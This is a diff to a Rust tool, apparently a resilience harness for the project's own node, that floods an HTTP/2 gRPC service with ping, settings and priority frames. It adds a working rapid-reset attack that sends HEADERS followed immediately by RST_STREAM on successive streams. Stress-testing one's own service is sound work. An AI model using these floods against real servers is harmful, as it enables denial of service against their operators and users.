@@ -49,6 +49,7 @@ enum Attack {
     Heads,
     Pings,
     Settings,
+    Priorities,
     Resets,
 }
 
@@ -88,6 +89,7 @@ async fn run() {
         ("heads", Attack::Heads),
         ("pings", Attack::Pings),
         ("settings", Attack::Settings),
+        ("priorities", Attack::Priorities),
         ("resets", Attack::Resets),
     ] {
         let mut rate = |attack| {
@@ -188,6 +190,7 @@ impl Attacker {
                         | Attack::Heads
                         | Attack::Pings
                         | Attack::Settings
+                        | Attack::Priorities
                         | Attack::Resets => tokio::time::sleep(Duration::from_millis(5)).await,
                     }
                 }
@@ -208,9 +211,13 @@ async fn go_on(attack: Attack, target: Arc<Target>) {
         match attack {
             Attack::Nothing => return,
             Attack::Bodies | Attack::Feed | Attack::Heads => calls(attack, &target).await,
-            Attack::Pings => frames(&target, || frame(6, 0, &[7; 8])).await,
-            Attack::Settings => frames(&target, || frame(4, 0, &[])).await,
-            Attack::Resets => frames(&target, reset).await,
+            Attack::Pings => frames(&target, || frame(6, 0, 0, &[7; 8])).await,
+            Attack::Settings => frames(&target, || frame(4, 0, 0, &[])).await,
+            Attack::Priorities => frames(&target, priority).await,
+            Attack::Resets => {
+                let mut stream = 1;
+                frames(&target, || reset_call(&mut stream)).await;
+            }
         }
         tokio::time::sleep(Duration::from_millis(1)).await;
     }
@@ -224,9 +231,12 @@ async fn calls(attack: Attack, target: &Target) {
         let alive = match attack {
             Attack::Heads => client.head(pb::HeadRequest {}).await.map(|_| ()),
             Attack::Bodies => body(&mut client, &target.sha256).await,
-            Attack::Nothing | Attack::Feed | Attack::Pings | Attack::Settings | Attack::Resets => {
-                feed(&mut client).await
-            }
+            Attack::Nothing
+            | Attack::Feed
+            | Attack::Pings
+            | Attack::Settings
+            | Attack::Priorities
+            | Attack::Resets => feed(&mut client).await,
         };
         if alive.is_err_and(|status| status.code() == tonic::Code::Unavailable) {
             return;
@@ -268,8 +278,8 @@ async fn feed(client: &mut ExchangeServiceClient<Channel>) -> Result<(), tonic::
     Ok(())
 }
 
-/// Sends the same frames for as long as the connection lasts, reading what comes.
-async fn frames(target: &Target, next: impl Fn() -> Vec<u8>) {
+/// Sends such frames for as long as the connection lasts, reading what comes.
+async fn frames(target: &Target, mut next: impl FnMut() -> Vec<u8>) {
     let Ok(stream) = peer::dial(&target.files, &target.card).await else {
         return;
     };
@@ -280,10 +290,11 @@ async fn frames(target: &Target, next: impl Fn() -> Vec<u8>) {
     };
     let writing = async {
         let mut preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
-        preface.extend(frame(4, 0, &[]));
-        let flood = next().repeat(100);
-        if write.write_all(&preface).await.is_ok() {
-            while write.write_all(&flood).await.is_ok() {}
+        preface.extend(frame(4, 0, 0, &[]));
+        let mut flood = preface;
+        while write.write_all(&flood).await.is_ok() {
+            flood.clear();
+            (0..100).for_each(|_| flood.extend(next()));
         }
     };
     tokio::select! {
@@ -292,20 +303,43 @@ async fn frames(target: &Target, next: impl Fn() -> Vec<u8>) {
     }
 }
 
-/// A frame without flags.
-fn frame(kind: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+/// A frame of HTTP/2.
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     let len = u32::try_from(payload.len())
         .expect("a short frame")
         .to_be_bytes();
-    let mut bytes = vec![len[1], len[2], len[3], kind, 0];
+    let mut bytes = vec![len[1], len[2], len[3], kind, flags];
     bytes.extend(stream.to_be_bytes());
     bytes.extend(payload);
     bytes
 }
 
-/// PRIORITY of a stream, and its reset before it began.
-fn reset() -> Vec<u8> {
-    let mut bytes = frame(2, 1, &[0, 0, 0, 0, 1]);
-    bytes.extend(frame(8, 0, &[0, 0, 0, 1]));
+/// PRIORITY of a stream, and a byte more of window.
+fn priority() -> Vec<u8> {
+    let mut bytes = frame(2, 0, 1, &[0, 0, 0, 0, 1]);
+    bytes.extend(frame(8, 0, 0, &[0, 0, 0, 1]));
+    bytes
+}
+
+/// HEADERS of a call, and RST_STREAM at once: the node begins what nobody waits for.
+fn reset_call(stream: &mut u32) -> Vec<u8> {
+    const PATH: &str = "/ntc.v1.ExchangeService/Head";
+    const END_HEADERS: u8 = 4;
+    const CANCEL: [u8; 4] = [0, 0, 0, 8];
+    // HPACK without its tables: method POST and scheme https are indexed, the others literal.
+    let mut headers = vec![0x83, 0x87];
+    for (name, value) in [(4, PATH), (1, "peer"), (31, "application/grpc")] {
+        let value_len = u8::try_from(value.len()).expect("a short value");
+        if name < 15 {
+            headers.push(name);
+        } else {
+            headers.extend([15, name - 15]);
+        }
+        headers.push(value_len);
+        headers.extend(value.as_bytes());
+    }
+    let mut bytes = frame(1, END_HEADERS, *stream, &headers);
+    bytes.extend(frame(3, 0, *stream, &CANCEL));
+    *stream += 2;
     bytes
 }
